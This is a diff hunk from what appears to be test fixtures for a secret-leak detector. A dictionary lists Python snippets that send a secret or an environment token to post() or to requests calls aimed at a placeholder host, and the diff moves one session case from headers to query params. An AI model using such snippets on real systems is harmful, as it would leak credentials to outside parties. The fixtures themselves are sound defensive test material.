@@ -64,7 +64,7 @@ PASSED_ON = {
     "items": "for a, b in {'x': secret}.items():\n    post(b)",
     "get": "post({'x': secret}.get('x'))",
     "aliased module": "import requests as r\nr.post('https://x.example.invalid', json=secret)",
-    "session": "import requests\ns = requests.Session()\ns.headers['A'] = secret\ns.get('https://x.example.invalid')",
+    "session": "import requests\ns = requests.Session()\ns.params['A'] = secret\ns.get('https://x.example.invalid')",
     "own module of helpers": "post(__import__('os').environ['A_TOKEN'])",
     "globals": "globals()['post'](secret)",
 }
